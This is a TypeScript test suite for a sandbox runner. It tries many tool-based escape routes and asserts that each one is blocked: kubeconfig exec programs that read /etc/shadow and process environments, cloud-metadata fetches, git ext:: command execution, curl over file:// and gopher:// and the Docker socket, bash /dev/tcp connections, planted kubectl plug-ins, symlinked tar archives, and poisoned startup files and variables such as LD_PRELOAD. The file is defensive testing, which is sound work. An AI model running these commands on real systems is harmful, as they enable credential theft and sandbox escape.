/**
 * The doors that tools have of their own: plug-ins, programs in a kubeconfig, files that are read at the start, options that
 * fetch or write elsewhere. Whatever opens, behind it is the same sandbox. The attempts share one, and each is judged by itself.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect, createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { openTrial, type Trial } from '../../server/runner/trial.ts';

const canary = `canary-${crypto.randomUUID()}`;
const folder = mkdtempSync(join(tmpdir(), 'hr-tools-'));
const secret = join(folder, 'secret');
/** whoever of a sandbox comes as far as this machine's loopback */
let visits = 0;
const listener = createServer((socket) => {
  visits += 1;
  socket.on('error', () => undefined);
  socket.end(`HTTP/1.1 200 OK\r\nContent-Length: ${canary.length}\r\n\r\n${canary}`);
});

const kubeconfig = (user: string, cluster: string) => `printf '%s' '{"apiVersion":"v1","kind":"Config","current-context":"c","contexts":[{"name":"c","context":{"cluster":"k","user":"u"}}],"clusters":[{"name":"k","cluster":${cluster}}],"users":[{"name":"u","user":${user}}]}' > evil.yaml; `;
const look = 'kubectl --kubeconfig evil.yaml get pods --request-timeout=2s 2>&1';

/** What is tried, and what must show; that no canary shows, and that nobody came, holds for all. `@` is the port that listens outside, `¤` the file of the secret. */
const attempts: readonly [what: string, script: string, shows: RegExp][] = [
  ['a program in a kubeconfig runs where the step does', `${kubeconfig('{"exec":{"apiVersion":"client.authentication.k8s.io/v1","command":"sh","args":["-c","cat ¤ /etc/shadow; cat /proc/1/environ | tr \\"\\\\0\\" \\"\\\\n\\"; exit 1"],"interactiveMode":"Never"}}', '{"server":"http://127.0.0.1:@"}')}${look}`, /exec: executable sh failed|No such file|refused/],
  ['a token from a file of the machine', `${kubeconfig('{"tokenFile":"¤"}', '{"server":"http://127.0.0.1:@"}')}${look}`, /no such file|refused/i],
  ['a password file of the system as a token', `${kubeconfig('{"tokenFile":"/etc/shadow"}', '{"server":"http://127.0.0.1:@"}')}${look}`, /no such file|denied|refused/i],
  ['a certificate from a file of the machine', `${kubeconfig('{}', '{"server":"https://127.0.0.1:@","certificate-authority":"¤"}')}${look}`, /no such file/i],
  ['a proxy outside', `${kubeconfig('{"token":"x"}', '{"server":"https://cluster.example","proxy-url":"http://127.0.0.1:@"}')}${look}`, /refused|unreachable/i],
  ['a server outside', 'kubectl --server=http://127.0.0.1:@ --request-timeout=2s get pods 2>&1', /refused/i],
  ['another’s name', 'kubectl --server=http://127.0.0.1:@ --as system:admin --as-group system:masters --token x --request-timeout=2s get secrets -A 2>&1', /refused/i],
  ['a manifest from outside', 'kubectl apply -f http://127.0.0.1:@/x.yaml 2>&1', /refused/i],
  ['a manifest from the cloud’s metadata', 'kubectl apply -f http://169.254.169.254/latest/meta-data/ 2>&1', /unreachable|refused/i],
  ['a manifest that is a file of the machine', 'kubectl apply --dry-run=client -f ¤ 2>&1', /does not exist/],
  ['a plug-in in the step’s own folder', 'mkdir -p bin; printf "#!/bin/sh\\necho PLUGGED" > bin/kubectl-getx; chmod +x bin/kubectl-getx; kubectl getx 2>&1', /unknown command/],
  ['a program called like one of kubectl’s own words', 'mkdir -p bin; printf "#!/bin/sh\\necho PLUGGED" > bin/kubectl-version; chmod +x bin/kubectl-version; PATH=$PWD/bin:$PATH kubectl version --client 2>&1', /Client Version/],
  ['a plug-in in the place of krew', 'mkdir -p ~/.krew/bin; printf "#!/bin/sh\\necho PLUGGED" > ~/.krew/bin/kubectl-getx; chmod +x ~/.krew/bin/kubectl-getx; kubectl getx 2>&1', /unknown command/],
  ['Redis outside', 'redis-cli -h 127.0.0.1 -p @ PING 2>&1', /refused/i],
  ['Redis by a socket of the machine', 'for socket in /run/redis.sock /tmp/*.sock /run/*.sock; do redis-cli -s "$socket" PING 2>&1; done', /No such file|connect/i],
  ['a Redis that is copied to a file', 'redis-cli -h 127.0.0.1 -p @ --rdb /etc/dump.rdb 2>&1; ls /etc/dump.rdb 2>&1', /refused[^]*No such file/i],
  ['a script of Redis from a file of the machine', 'redis-cli --eval ¤ 2>&1', /refused|No such file/i],
  ['a replica of Redis', 'timeout 3 redis-cli -h 127.0.0.1 -p @ --replica 2>&1', /refused/i],
  ['make somewhere else', 'make -C / -f ¤ 2>&1', /No such file/i],
  ['make with a file that is asked for', 'make --eval "$(printf "all:\\n\\t@cat %s" ¤)" all 2>&1', /No such file/i],
  ['git by another program', 'git -c protocol.ext.allow=always clone "ext::cat ¤" x 2>&1', /fatal/],
  ['git from a file of the machine', 'git clone file://¤ x 2>&1; git clone ¤ y 2>&1', /does not (appear to be|exist)|fatal/],
  ['curl with a file', 'curl -sS file://¤ 2>&1', /Couldn.t open|Could not open/i],
  ['curl with another protocol', 'curl -sS --max-time 2 gopher://127.0.0.1:@/_x 2>&1; curl -sS --max-time 2 telnet://127.0.0.1:@ 2>&1 </dev/null', /not supported|disabled|refused|Could ?n.t connect|Failed to connect/i],
  ['curl by a socket of the machine', 'for socket in /var/run/docker.sock /run/containerd/containerd.sock; do curl -sS --unix-socket "$socket" http://x/ 2>&1; done', /Could ?n.t connect|Failed to connect|No such file/i],
  ['bash’s own connections', '(echo x > /dev/tcp/127.0.0.1/@) 2>&1; (echo x > /dev/tcp/169.254.169.254/80) 2>&1; (echo x > /dev/udp/192.0.2.1/53) 2>&1', /refused[^]*unreachable/i],
  ['a name of the machine', 'getent hosts localhost.localdomain; getent hosts metadata.google.internal; getent hosts host.docker.internal; echo end', /^end/m],
  ['an archive that leads out', 'mkdir -p t; ln -sf / t/out; tar -cf t.tar t; mkdir -p u; tar -C u -xf t.tar; cat u/t/out¤ 2>&1; tar -xf ¤ 2>&1', /No such file|Cannot open/],
];

const marks = ['begins', 'ends'].map((word) => `${word}-${crypto.randomUUID().slice(0, 8)}`);
let trial: Trial;
const outputs: string[] = [];
before(async () => {
  await new Promise<void>((listening) => { listener.listen(0, '127.0.0.1', listening); });
  writeFileSync(secret, canary);
  process.env['HANDRAIL_TRIAL_SECRET'] = canary;
  trial = openTrial();
  const port = String((listener.address() as AddressInfo).port);
  const filled = (script: string) => script.replaceAll('@', port).replaceAll('¤', secret);
  // Some wait for what does not come: several at once, each in a folder of its own.
  const source = [
    ...attempts.map(([, script], at) => `mkdir at-${at}; (cd at-${at}\n${filled(script)}\n) </dev/null >at-${at}/said &${at % 6 === 5 ? '\nwait' : ''}`), 'wait',
    ...attempts.map((_, at) => `echo ${marks[0]}; cat at-${at}/said; echo ${marks[1]}`),
  ].join('\n');
  const { output } = await trial.run({ source, timeout: 110, exit: [0] });
  outputs.push(...output.split(`${marks[0]}\n`).slice(1).map((part) => part.split(marks[1] ?? '')[0] ?? ''));
});
after(async () => {
  delete process.env['HANDRAIL_TRIAL_SECRET'];
  await trial.close();
  listener.close();
  rmSync(folder, { recursive: true });
});

describe('behind every door of a tool is the same sandbox', () => {
  for (const [at, [what, , shows]] of attempts.entries()) {
    it(what, () => {
      const output = outputs[at] ?? '';
      assert.match(output, shows);
      assert.ok(!output.includes(canary) && !output.includes('PLUGGED'), output);
    });
  }
  it('and nobody came out of it', () => { assert.equal(visits, 0); });
});

it('what a step listens on is not there outside', async () => {
  const started = trial.host.start(trial.request({ source: 'python3 -m http.server 18099 --bind 0.0.0.0 2>/dev/null & for try in {1..100}; do curl -sS -o /dev/null http://127.0.0.1:18099/ 2>/dev/null && break; sleep 0.05; done; echo up; sleep 50', interactive: true }));
  await trial.until(started.id, (output) => output.includes('up'));
  const reached = await new Promise<boolean>((done) => {
    const socket = connect(18099, '127.0.0.1');
    socket.on('connect', () => { done(true); socket.destroy(); });
    socket.on('error', () => { done(false); });
  });
  assert.equal(reached, false);
  await trial.host.stop(started.id);
  await trial.end(started.id);
});

/** Files and variables that programs go by at their start, each with what would show that one was. */
const home = ['.bashrc', '.bash_profile', '.bash_login', '.profile', '.bash_logout', '.inputrc', '.kuberc', '.vimrc', '.nanorc'];
const variables = ['BASH_ENV', 'ENV', 'PROMPT_COMMAND', 'PS4', 'SHELLOPTS', 'BASHOPTS', 'LD_PRELOAD', 'LD_LIBRARY_PATH', 'LD_AUDIT', 'GLOBIGNORE', 'IFS', 'CDPATH', 'MAKEFLAGS', 'MAKEFILES', 'GNUMAKEFLAGS', 'PERL5OPT', 'PYTHONSTARTUP', 'NODE_OPTIONS', 'GIT_SSH_COMMAND', 'GIT_EXTERNAL_DIFF', 'KUBECONFIG', 'KUBE_EDITOR', 'KUBECTL_EXTERNAL_DIFF', 'REDISCLI_RCFILE', 'SSL_CERT_FILE', 'CURL_HOME'];

describe('what one step leaves does not change what the next one means', () => {
  const said: Record<string, string> = {};
  before(async () => {
    const plant = home.map((name) => `echo 'echo EVIL' > ~/${name}`).join('; ');
    await trial.run({ source: `${plant}; mkdir -p ~/.config/git ~/.kube; ${variables.map((name) => `export ${name}=/tmp/evil 2>/dev/null`).join('; ')}; alias ls='echo EVIL'; cd() { echo EVIL; }; export -f cd; true` });
    const source = `env | sed 's/^/variable /'; ls / >/dev/null; cd /; type -t cd; kubectl version --client`;
    for (const interactive of [false, true]) said[String(interactive)] = (await trial.run({ source, interactive, exit: [0] })).output;
  });
  for (const interactive of [false, true]) {
    it(`no file of the home folder is read by ${interactive ? 'an interactive step' : 'a step'}`, () => {
      assert.match(said[String(interactive)] ?? '', /^builtin\r?$/m);
      assert.doesNotMatch(said[String(interactive)] ?? '', /EVIL/);
    });
  }
  for (const name of variables) {
    it(`${name} is not carried on`, () => {
      for (const output of Object.values(said)) assert.doesNotMatch(output, new RegExp(`^variable ${name}=.*evil`, 'm'));
    });
  }
});
